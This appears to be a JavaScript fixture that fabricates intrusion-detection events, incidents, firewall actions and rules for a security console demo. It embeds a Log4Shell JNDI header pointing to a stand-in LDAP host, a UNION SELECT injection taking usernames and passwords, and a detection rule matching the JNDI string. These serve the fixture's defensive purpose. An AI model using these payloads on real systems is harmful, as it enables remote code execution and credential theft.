// Attacks that never happened, the same on every start.
const NOW = Date.now();
const iso = (ms) => new Date(ms).toISOString().replace(/(\.\d{3})Z$/, '$1000+0000');
const b64 = (text) => Buffer.from(text, 'latin1').toString('base64');
let seed = 7;
const random = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
const pick = (list) => list[Math.floor(random() * list.length)];

const SIGNATURES = [
  [
    2034647,
    'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)',
    1,
    'Attempted Administrator Privilege Gain',
    'TA0001',
    'Initial Access',
    'T1190',
    'Exploit Public-Facing Application',
  ],
  [
    2001219,
    'ET SCAN Potential SSH Scan',
    2,
    'Attempted Information Leak',
    'TA0043',
    'Reconnaissance',
    'T1595',
    'Active Scanning',
  ],
  [
    2019876,
    'ET SCAN SSH BruteForce Tool with fake PUTTY version',
    2,
    'Detection of a Network Scan',
    'TA0006',
    'Credential Access',
    'T1110',
    'Brute Force',
  ],
  [
    2006446,
    'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT',
    1,
    'Web Application Attack',
    'TA0001',
    'Initial Access',
    'T1190',
    'Exploit Public-Facing Application',
  ],
  [
    2027758,
    'ET DNS Query for .cc TLD',
    3,
    'Potentially Bad Traffic',
    'TA0011',
    'Command and Control',
    'T1071',
    'Application Layer Protocol',
  ],
  [
    2018959,
    'ET POLICY PE EXE or DLL Windows file download HTTP',
    3,
    'Potential Corporate Privacy Violation',
    'TA0011',
    'Command and Control',
    'T1105',
    'Ingress Tool Transfer',
  ],
  [2025275, 'ET INFO Windows OS Submitting USB Metadata to Microsoft', 4, 'Misc activity', null],
];
const SOURCES = [
  '192.0.2.66',
  '203.0.113.9',
  '198.51.100.23',
  '192.0.2.141',
  '2001:db8:66::9',
  '203.0.113.77',
  '198.51.100.4',
];
const HOSTS = ['10.20.0.11', '10.20.0.12', '10.20.0.53', '10.20.4.7', '2001:db8:20::11'];
const ASSETS = {
  '10.20.0.11': ['shop-web-1', 'web', 'high'],
  '10.20.0.12': ['shop-web-2', 'web', 'high'],
  '10.20.0.53': ['resolver', 'dns', 'medium'],
  '10.20.4.7': ['build-7', 'ci', 'low'],
};

const LOG4J =
  'GET /catalog?item=17 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nX-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}\r\nAccept: */*\r\nCookie: session=8b4c1c0d2f\r\n\r\n';
const SQLI = "/products?id=1'+UNION+SELECT+username,password+FROM+users--";

function build(index) {
  seed = 7 + index * 7919;
  const time = NOW - index * 1700 - Math.floor(random() * 900);
  const source = pick(SOURCES);
  const host = pick(HOSTS);
  const base = {
    timestamp: iso(time),
    flow_id: 1e15 + index,
    in_iface: 'eth0',
    src_ip: source,
    src_port: 30000 + (index % 30000),
    dest_ip: host,
    dest_port: 443,
    proto: 'TCP',
    community_id: '1:hO+sN4H+MG5MY/8hIrXPqc4ZQz0=',
    host: 'edge-1',
  };
  const flow = {
    pkts_toserver: 8,
    pkts_toclient: 7,
    bytes_toserver: 1204,
    bytes_toclient: 8911,
    start: iso(time - 400),
    src_ip: source,
    dest_ip: host,
    src_port: base.src_port,
    dest_port: 80,
  };
  const roll = index < 8 ? 0 : random();
  let event;
  if (roll < 0.18) {
    const [sid, signature, severity, category, tactic, tacticName, technique, techniqueName] =
      index < 2 ? SIGNATURES[index * 3] : pick(SIGNATURES);
    const metadata = {
      signature_severity: ['Major'],
      created_at: ['2021_12_11'],
      ...(tactic
        ? {
            mitre_tactic_id: [tactic],
            mitre_tactic_name: [tacticName.replace(/ /g, '_')],
            mitre_technique_id: [technique],
            mitre_technique_name: [techniqueName.replace(/ /g, '_')],
          }
        : {}),
    };
    event = {
      ...base,
      event_type: 'alert',
      dest_port: 80,
      app_proto: 'http',
      alert: {
        action: 'allowed',
        gid: 1,
        signature_id: sid,
        rev: 3,
        signature,
        category,
        severity,
        metadata,
      },
      flow,
    };
    if (sid === 2034647) {
      event.http = {
        hostname: 'shop.example',
        url: '/catalog?item=17',
        http_user_agent: 'Mozilla/5.0',
        http_method: 'GET',
        protocol: 'HTTP/1.1',
        status: 200,
        length: 7313,
      };
      const headers = LOG4J.slice(LOG4J.indexOf('Host'));
      const found = (by, value, what) => ({
        at: headers.indexOf(what),
        length: what.length,
        by,
        text: value,
      });
      event.ratel = {
        matches: [
          {
            buffer: 'http.header',
            direction: 'toserver',
            data: b64(headers),
            offset: 0,
            length: headers.length,
            spans: [
              found('content', '$|7b|jndi|3a|ldap', '${jndi:ldap'),
              found('content', '|3a 2f 2f|', '://'),
              found('pcre', '/\\d{1,3}(\\.\\d{1,3}){3}/', '203.0.113.9'),
            ],
          },
        ],
      };
    } else if (sid === 2006446) {
      event.http = {
        hostname: 'shop.example',
        url: SQLI,
        http_user_agent: 'sqlmap/1.7',
        http_method: 'GET',
        protocol: 'HTTP/1.1',
        status: 500,
      };
      const found = (what) => ({ at: SQLI.indexOf(what), length: what.length, by: 'content', text: what });
      event.ratel = {
        matches: [
          {
            buffer: 'http.uri',
            direction: 'toserver',
            data: b64(SQLI),
            offset: 0,
            length: SQLI.length,
            spans: [found('UNION'), found('SELECT')],
          },
        ],
      };
    }
  } else if (roll < 0.45)
    event = {
      ...base,
      event_type: 'http',
      dest_port: 80,
      http: {
        hostname: 'shop.example',
        url: `/p/${index % 991}`,
        http_user_agent: 'Mozilla/5.0',
        http_method: 'GET',
        status: pick([200, 200, 200, 304, 404]),
        length: 8123,
      },
    };
  else if (roll < 0.66)
    event = {
      ...base,
      event_type: 'dns',
      proto: 'UDP',
      dest_ip: '10.20.0.53',
      dest_port: 53,
      dns: {
        type: 'query',
        rrname: pick(['shop.example', 'cdn.example', 'x7f2.example.cc', 'mail.example']),
        rrtype: 'A',
      },
    };
  else if (roll < 0.82)
    event = {
      ...base,
      event_type: 'tls',
      tls: {
        sni: pick(['shop.example', 'api.example']),
        version: 'TLS 1.3',
        ja4: 't13d1516h2_8daaf6152771_02713d6af862',
        subject: 'CN=shop.example',
        issuerdn: 'CN=Example CA',
      },
    };
  else
    event = {
      ...base,
      event_type: 'flow',
      app_proto: 'tls',
      flow: { ...flow, state: 'closed', reason: 'timeout', age: 4 },
    };
  return { id: String(index), time: event.timestamp, event };
}

const TOTAL = 1_000_000;
export const event = (id) => build(Number(String(id).replace(/^f/, '')) || 0);
export function page(from, limit, q = '') {
  const items = [];
  let index = from;
  const wanted = /event_type:(\w+)/.exec(q)?.[1];
  while (items.length < limit && index < TOTAL && index < from + limit * 12) {
    const hit = build(index++);
    if (!wanted || hit.event.event_type === wanted) items.push(hit);
  }
  return {
    items,
    next: index < TOTAL ? String(index) : null,
    total: wanted ? 181_204 : TOTAL,
    total_is_exact: true,
    took_ms: 14,
  };
}
export function fresh(n) {
  const hit = build((n * 13) % 8 === 0 ? 0 : 1);
  const time = iso(Date.now());
  return { id: `f${n}`, time, event: { ...hit.event, timestamp: time, src_ip: SOURCES[n % SOURCES.length] } };
}
export function context(id) {
  const hit = event(id);
  const isAlert = hit.event.event_type === 'alert';
  return {
    rule: isAlert ? rules.find((rule) => rule.sid === hit.event.alert.signature_id) : null,
    flow: {
      id: '900',
      time: hit.time,
      event: {
        ...hit.event,
        event_type: 'flow',
        flow: {
          ...hit.event.flow,
          bytes_toserver: 1204,
          bytes_toclient: 8911,
          pkts_toserver: 8,
          pkts_toclient: 7,
          state: 'closed',
          reason: 'timeout',
          age: 4,
        },
      },
    },
    transactions: [
      {
        id: '901',
        time: hit.time,
        event: {
          ...hit.event,
          event_type: 'http',
          http: hit.event.http ?? { http_method: 'GET', hostname: 'shop.example', url: '/', status: 200 },
        },
      },
      {
        id: '902',
        time: hit.time,
        event: { event_type: 'fileinfo', fileinfo: { filename: '/catalog', size: 7313, state: 'CLOSED' } },
      },
    ],
    alerts: isAlert ? [hit, { ...build(1), id: '1' }] : [],
    incident: isAlert ? incidents[0] : null,
  };
}
export const FIELDS = [
  'event_type',
  'src_ip',
  'src_port',
  'dest_ip',
  'dest_port',
  'proto',
  'app_proto',
  'flow_id',
  'host',
  'alert.signature',
  'alert.signature_id',
  'alert.severity',
  'alert.category',
  'http.hostname',
  'http.url',
  'http.http_user_agent',
  'http.status',
  'dns.rrname',
  'dns.rrtype',
  'tls.sni',
  'tls.ja4',
  'community_id',
  'ratel.capture',
].map((path) => ({
  path,
  kind: path.endsWith('_ip') ? 'address' : /port|severity|status|_id$/.test(path) ? 'number' : 'keyword',
}));
export function values(field, prefix) {
  const lists = {
    event_type: ['flow', 'http', 'dns', 'tls', 'alert', 'fileinfo', 'anomaly'],
    src_ip: SOURCES,
    dest_ip: HOSTS,
    'alert.signature': SIGNATURES.map((s) => s[1]),
    proto: ['TCP', 'UDP', 'ICMP'],
  };
  return (lists[field] ?? [])
    .filter((value) => value.toLowerCase().startsWith(prefix.toLowerCase()))
    .map((value, i) => ({ value, count: Math.round(90_000 / (i + 1)) }));
}
const wave = (i, n) => 0.6 + 0.4 * Math.sin((i / n) * 9) + 0.35 * Math.sin(i * 1.7);
export function histogram(buckets) {
  return {
    interval_secs: 900,
    buckets: Array.from({ length: buckets }, (_, i) => {
      const w = Math.max(0.1, wave(i, buckets));
      const by_type = {
        alert: Math.round(26 * w + (i % 31 === 19 ? 420 : 0)),
        http: Math.round(410 * w),
        dns: Math.round(300 * w),
        tls: Math.round(200 * w),
        flow: Math.round(180 * w),
      };
      return {
        time: iso(NOW - (buckets - i) * 900_000),
        total: Object.values(by_type).reduce((a, b) => a + b, 0),
        by_type,
      };
    }),
  };
}
const counters = {
  ring_packets: 148_201_993,
  inspected: 148_201_120,
  inspected_bytes: 118_004_221_884,
  ring_drops: 0,
  invalid: 212,
  alerts: 18_204,
  events_published: 2_044_991,
  events_stored: 2_044_990,
  flows_active: 18_233,
  bus_bytes: 912_233_441,
  store_bytes: 4_122_331_009,
  incidents_changed: 331,
  notifications: 41,
  failed: 0,
  events_lost: 0,
  left_behind: 0,
};
export function stats() {
  const grown = (Date.now() - NOW) / 1000;
  return {
    time: iso(Date.now()),
    counters: {
      ...counters,
      inspected: counters.inspected + Math.round(grown * 21_000 * (1 + 0.3 * Math.sin(grown / 9))),
      inspected_bytes: counters.inspected_bytes + Math.round(grown * 21_000 * 801),
    },
  };
}
const ROLES = [
  ['sensor', 'running', 'eth0, 4 workers'],
  ['respond', 'running', 'nftables, mode enforce'],
  ['store', 'degraded', 'the disk is 86 % full: flow and netflow records are left out'],
  ['alert', 'running', '6 receivers'],
  ['console', 'running', 'https://10.20.0.5:9443'],
].map(([role, state, detail]) => ({
  role,
  state,
  since: iso(NOW - 9e8),
  restarts: role === 'alert' ? 1 : 0,
  detail,
}));
export const status = () => ({
  version: '0.5.0',
  pid: 811,
  started: iso(NOW - 9e8),
  now: iso(Date.now()),
  ready: true,
  roles: ROLES,
  actions: { effective: 11, ineffective: 1, awaiting_approval: 2 },
  events: {
    flow: 812_233,
    http: 611_204,
    dns: 402_211,
    tls: 188_201,
    alert: 18_204,
    fileinfo: 12_887,
    anomaly: 51,
  },
  counters,
  bouncers: [
    {
      name: 'edge-fw',
      address: '10.20.0.2',
      agent: 'crowdsec-firewall-bouncer/v0.0.31',
      last_pull: iso(NOW - 4000),
    },
  ],
});
export const series = (names) => ({
  interval_secs: 10,
  metrics: names,
  series: Object.fromEntries(
    names.map((name, k) => [
      name,
      Array.from({ length: 360 }, (_, i) => ({
        time: iso(NOW - (360 - i) * 1e4),
        rate: ['ring_drops', 'failed', 'events_lost', 'left_behind'].includes(name)
          ? 0
          : Math.max(0, wave(i * (1 + k / 7), 360)) * ((counters[name] ?? 0) / 9e5),
        value: 0,
      })),
    ]),
  ),
});
export function overview(since) {
  const n = 60;
  const minutes = { '15m': 15, '1h': 60, '24h': 1440, '7d': 10_080 }[since] ?? 60;
  const at = (i) => iso(NOW - (n - i) * minutes * 1000);
  return {
    since: at(0),
    now: iso(NOW),
    interval_secs: minutes,
    traffic: Array.from({ length: n * 3 }, (_, i) => ({
      time: iso(NOW - (n * 3 - i) * minutes * 333),
      packets: 21_000 * Math.max(0.3, wave(i, n)),
      bytes: 16_800_000 * Math.max(0.3, wave(i, n)),
      dropped: 0,
    })),
    alerts: Array.from({ length: n }, (_, i) => {
      const w = Math.max(0.05, wave(i, n));
      const by_severity = {
        1: i > 41 && i < 46 ? Math.round(31 * w) : Math.round(2 * random()),
        2: Math.round(12 * w),
        3: Math.round(9 * w),
        4: Math.round(4 * w),
      };
      return { time: at(i), total: 0, by_severity };
    }),
    alerts_total: 1834,
    events_total: 98_211,
    top: {
      sources: SOURCES.map((value, i) => ({ value, count: Math.round(812 / (i + 1)), country: 'NL' })),
      destinations: HOSTS.map((value, i) => ({ value, count: Math.round(702 / (i + 1)) })),
      signatures: SIGNATURES.map(([signature_id, signature], i) => ({
        signature_id,
        signature,
        count: Math.round(611 / (i + 1)),
      })),
      countries: ['NL', 'US', 'CN', 'BR', 'DE', 'VN'].map((value, i) => ({
        value,
        count: Math.round(455 / (i + 1)),
      })),
      protocols: ['tls', 'http', 'dns', 'ssh', 'smtp', 'quic'].map((value, i) => ({
        value,
        count: Math.round(41_000 / (i + 1)),
      })),
    },
    incidents: {
      open_by_severity: { critical: 1, high: 3, medium: 6, low: 4 },
      acknowledged_by_severity: {},
    },
    roles: ROLES,
    drops: { packets: 148_201_993, dropped: 212, by_stage: { ring_drops: 0, invalid: 212 } },
    actions: { effective: 11, ineffective: 1, awaiting_approval: 2 },
    missing: [],
  };
}
const TITLES = [
  ['critical', 'attack', 'Log4Shell, then a shell calls home from shop-web-1'],
  ['high', 'attack', 'SQL injection against shop-web-2'],
  ['high', 'attack', 'SSH passwords are guessed on 14 hosts'],
  ['high', 'response', 'The block of 198.51.100.23 has no effect'],
  ['medium', 'attack', 'Port scan of 10.20.0.0/24'],
  ['medium', 'correlation', 'A DNS tunnel through the resolver'],
  ['medium', 'attack', 'Executable downloaded over HTTP'],
  ['medium', 'storm', '4,120 alerts of 31 kinds in 10 minutes'],
  ['low', 'attack', 'Policy: DNS queries for .cc'],
  ['low', 'attack', 'TLS with a self-signed certificate'],
  ['informational', 'attack', 'USB metadata sent to Microsoft'],
];
export const incidents = Array.from({ length: 64 }, (_, i) => {
  seed = 99 + i;
  const [severity, kind, title] = TITLES[i % TITLES.length];
  const first = NOW - i * 4_100_000 - 3_000_000;
  const chain =
    i % TITLES.length === 0
      ? [
          ['TA0043', 'Reconnaissance', 'T1595', 'Active Scanning'],
          ['TA0001', 'Initial Access', 'T1190', 'Exploit Public-Facing Application'],
          ['TA0002', 'Execution', 'T1059', 'Command and Scripting Interpreter'],
          ['TA0011', 'Command and Control', 'T1071', 'Application Layer Protocol'],
        ]
      : i % 3
        ? [['TA0001', 'Initial Access', 'T1190', 'Exploit Public-Facing Application']]
        : [
            ['TA0043', 'Reconnaissance', 'T1595', 'Active Scanning'],
            ['TA0006', 'Credential Access', 'T1110', 'Brute Force'],
          ];
  const last = first + 2_700_000;
  const id = 'i' + (0x1000000000000000n + BigInt(i * 7919)).toString(16);
  return {
    incident: {
      id,
      fingerprint: 'f' + i,
      kind,
      title,
      severity,
      status: 'open',
      first: iso(first),
      last: iso(last),
      opened: iso(first),
      changed: iso(last),
      revision: 4,
      events: 3 + Math.floor(random() * 4000),
      attackers: SOURCES.slice(i % 3, (i % 3) + 1 + (i % 4)).map((address, k) => ({
        address,
        events: 400 - k * 90,
      })),
      victims: HOSTS.slice(0, 1 + (i % 3)).map((address, k) => ({
        address,
        events: 300 - k * 80,
        asset: ASSETS[address]?.[0],
      })),
      signatures: SIGNATURES.slice(0, 2 + (i % 3)).map(([sid, text, eve], k) => ({
        id: `1:${sid}`,
        text,
        severity: ['high', 'medium', 'low', 'informational'][eve - 1],
        events: 210 - k * 60,
        first: iso(first),
        last: iso(last - k * 60_000),
      })),
      tactics: chain.map(([tid, name, technique, tname], k) => ({
        id: tid,
        name,
        first: iso(first + (k * 2_700_000) / chain.length),
        techniques: [{ id: technique, name: tname }],
      })),
      sensors: ['edge-1'],
      actions: i % 2 ? ['a2'] : ['a1', 'a3'],
      sample: ['0', '1'],
      query: `src_ip:${SOURCES[i % 3]} AND event_type:alert`,
    },
    owner: i % 5 === 1 ? 'ana' : null,
    status: i < 14 ? 'open' : i % 4 === 0 ? 'acknowledged' : 'closed',
    closed_why: i >= 14 && i % 4 ? 'Dealt with' : null,
    version: 3,
    notes:
      i === 0
        ? [
            {
              id: '1',
              author: 'marek',
              time: iso(last - 900_000),
              text: 'The header came through the load balancer. shop-web-1 opened 203.0.113.9:1389 once; nothing was answered since the block.',
            },
          ]
        : [],
    silences: [],
  };
});
export function timeline({ incident }) {
  const first = Date.parse(incident.first.replace('+0000', 'Z'));
  const steps = [];
  seed = 5;
  incident.tactics.forEach((tactic, k) => {
    const begin = first + (k * 2_700_000) / incident.tactics.length;
    for (let n = 0; n < 14 - 3 * k; n++)
      steps.push({
        time: iso(begin + n * n * 9000 * random() + n * 20_000),
        kind: 'event',
        tactic: tactic.id,
        text: incident.signatures[k % incident.signatures.length].text,
        ref: '0',
      });
  });
  steps.push(
    { time: iso(first + 1_000_000), kind: 'notification', text: 'Told #soc on Slack' },
    { time: iso(first + 1_040_000), kind: 'action', text: 'Block 203.0.113.9 for 1 h: effective', ref: 'a1' },
    { time: iso(first + 1_900_000), kind: 'note', text: 'marek: the header came through the load balancer' },
    { time: iso(first + 2_300_000), kind: 'status', text: 'ana owns it' },
  );
  return steps.sort((a, b) => (a.time < b.time ? -1 : 1));
}
export const silences = [
  {
    id: 's1',
    query: 'alert.signature_id:2025275',
    kind: 'silence',
    reason: 'Known on the laptops of marketing',
    owner: 'marek',
    created: iso(NOW - 2e8),
    expires: iso(NOW + 4e8),
    active: true,
  },
  {
    id: 's2',
    query: 'src_ip:10.20.9.0/24 AND alert.category:"Detection of a Network Scan"',
    kind: 'suppress',
    reason: 'The vulnerability scanner runs on Mondays',
    owner: 'ana',
    created: iso(NOW - 5e8),
    expires: iso(NOW + 7e7),
    active: true,
  },
];
export const receivers = [
  ['soc-slack', 'slack', true, 0, 41],
  ['pager', 'pagerduty', true, 0, 3],
  ['mail', 'email', false, 4, 112, '421 4.7.0 too many connections'],
  ['am', 'alertmanager', true, 0, 1204],
].map(([name, kind, healthy, pending, delivered, last_error = null]) => ({
  name,
  kind,
  healthy,
  pending,
  delivered,
  failed: last_error ? 7 : 0,
  last_error,
  last_delivery: iso(NOW - 240_000),
}));
export const queries = [
  { id: 'q1', name: 'Log4Shell anywhere', query: 'alert.signature:log4j', owner: 'ana' },
  { id: 'q2', name: 'Odd DNS', query: 'event_type:dns AND dns.rrname:*.cc', owner: 'marek' },
];
export const hosts = [
  ...HOSTS,
  ...SOURCES,
  ...Array.from({ length: 300 }, (_, i) => `10.20.${1 + (i >> 6)}.${1 + (i % 64)}`),
].map((address, i) => ({
  address,
  asset: ASSETS[address]
    ? { name: ASSETS[address][0], role: ASSETS[address][1], criticality: ASSETS[address][2] }
    : null,
  country: address.startsWith('10.') ? null : 'NL',
  first: iso(NOW - 6e8 - i * 1e6),
  last: iso(NOW - i * 31_000),
  events: Math.round(90_000 / (i + 1)),
  alerts: i < 12 ? Math.round(800 / (i + 1)) : 0,
  bytes: Math.round(9e9 / (i + 1)),
}));
export function host(address) {
  const found = hosts.find((each) => each.address === address) ?? hosts[0];
  return {
    ...found,
    address,
    peers: SOURCES.concat(HOSTS)
      .filter((a) => a !== address)
      .map((peer, i) => ({
        address: peer,
        country: 'NL',
        events: Math.round(9000 / (i + 1)),
        alerts: i % 3 === 0 ? 41 - i : 0,
        bytes: Math.round(4e8 / (i + 1)),
        last: iso(NOW - i * 91_000),
      })),
    services: [
      [443, 'tls', 51_000],
      [80, 'http', 12_000],
      [22, 'ssh', 311],
    ].map(([port, app_proto, events]) => ({ port, proto: 'TCP', app_proto, events })),
    names: [
      { value: 'shop.example', count: 40_121 },
      { value: 'www.shop.example', count: 9112 },
    ],
    alerts_by_signature: SIGNATURES.slice(0, 4).map(([signature_id, signature], i) => ({
      signature_id,
      signature,
      count: Math.round(400 / (i + 1)),
    })),
  };
}
let actionId = 20;
export const action = (target, state, why, ttl_secs = 3600, ago = 0) => ({
  id: `a${++actionId}`,
  step: 'block',
  target: target.includes('/') ? target : `${target}/32`,
  ttl_secs,
  mode: 'enforce',
  why: { reason: '', ...why },
  returned: 0,
  planned: iso(Date.now() - ago),
  executed: iso(Date.now() - ago + 5),
  ends: iso(Date.now() - ago + ttl_secs * 1000),
  changed: iso(Date.now() - ago + 412),
  ...(state.state === 'effective'
    ? {
        evidence: {
          held_by: ['inet ratel block4'],
          packets_stopped: 4211,
          packets_arrived: 0,
          connections_ended: 1,
        },
        undo: { firewall: 'nftables', takes: [`inet ratel block4 ${target}`], keeps: [] },
      }
    : {}),
  ...state,
});
export const actions = [
  action(
    '203.0.113.9',
    { state: 'effective' },
    {
      reason: 'Log4Shell against shop-web-1',
      playbook: 'exploits',
      event: '0',
      incident: incidents[0].incident.id,
      trigger: { packet: iso(NOW - 60_004), published: iso(NOW - 60_001), read: iso(NOW - 60_001) },
    },
    3600,
    60_000,
  ),
  action(
    '198.51.100.23',
    {
      state: 'ineffective',
      failure: 'accepted_before',
      cause: 'table inet filter, chain input accepts the packets before our chain is asked',
    },
    { reason: 'SSH passwords are guessed', playbook: 'guessers' },
    86_400,
    300_000,
  ),
  action(
    '192.0.2.0/24',
    { state: 'awaiting_approval' },
    { reason: 'Scan from 31 addresses of one network', playbook: 'scanners' },
    3600,
    400_000,
  ),
  {
    ...action(
      '10.20.4.7',
      { state: 'awaiting_approval' },
      { reason: 'A DNS tunnel from build-7', playbook: 'tunnels' },
      3600,
      500_000,
    ),
    step: 'quarantine',
  },
  action(
    '10.20.0.1',
    { state: 'refused', cause: '10.20.0.1 is protected: it is the default gateway' },
    { reason: 'by hand', person: 'marek' },
    900,
    900_000,
  ),
  ...SOURCES.map((source, i) =>
    action(
      source,
      { state: i % 2 ? 'expired' : 'effective' },
      { reason: 'Listed', feed: 'drop' },
      604_800,
      2e6 + i * 7e6,
    ),
  ),
];
['a1', 'a2', 'a3'].forEach((id, i) => (actions[i].id = id));
export const rules = Array.from({ length: 4800 }, (_, i) => {
  const [sid, msg, priority, classtype] = SIGNATURES[i % SIGNATURES.length];
  const state =
    i === 3 ? 'degraded' : i === 11 || i % 97 === 50 ? 'refused' : i === 5 ? 'disabled' : 'loaded';
  const number = i < SIGNATURES.length ? sid : 2_100_000 + i;
  return {
    sid: number,
    gid: 1,
    rev: 3,
    msg: i < SIGNATURES.length ? msg : `${msg} M${i}`,
    state,
    reasons:
      state === 'refused'
        ? ['unknown keyword "ja3s.fuzzy" at column 212']
        : state === 'degraded'
          ? ['isdataat after a relative pcre is held against the whole buffer']
          : [],
    text: `alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"${msg}"; flow:established,to_server; http.header; content:"$|7b|jndi|3a|ldap|3a 2f 2f|"; nocase; fast_pattern; pcre:"/\\x24\\x7bjndi/Hi"; reference:cve,2021-44228; classtype:attempted-admin; sid:${number}; rev:3;)`,
    file: 'emerging-exploit.rules',
    line: 100 + i,
    classtype,
    priority,
    hits: i < 40 ? Math.round(4000 / (i + 1)) : 0,
    last_hit: i < 40 ? iso(NOW - i * 71_000) : null,
    cost:
      i % 3
        ? { checks: 90_000 - i * 11, matches: 40, nanos: 4e9 / (i + 1) }
        : { checks: 0, matches: 0, nanos: 0 },
    overlay:
      i === 5
        ? {
            enabled: false,
            thresholds: [],
            owner: 'marek',
            reason: 'Fires on our own monitoring',
            expires: iso(NOW + 3e8),
            changed: iso(NOW),
          }
        : null,
  };
});
export const users = [
  ['ana', 'admin'],
  ['marek', 'responder'],
  ['li', 'analyst'],
  ['wall', 'viewer'],
].map(([name, role], i) => ({
  name,
  role,
  must_change_password: i === 2,
  disabled: i === 3,
  created: iso(NOW - 9e9),
  last_login: i === 2 ? null : iso(NOW - i * 7e6),
}));
export const tokens = [
  ['grafana', 'viewer'],
  ['filebeat', 'ingest'],
].map(([name, role], i) => ({
  id: `t${i}`,
  name,
  role,
  owner: 'ana',
  created: iso(NOW - 4e9),
  expires: iso(NOW + 5e9),
  last_used: iso(NOW - i * 60_000 - 4000),
}));
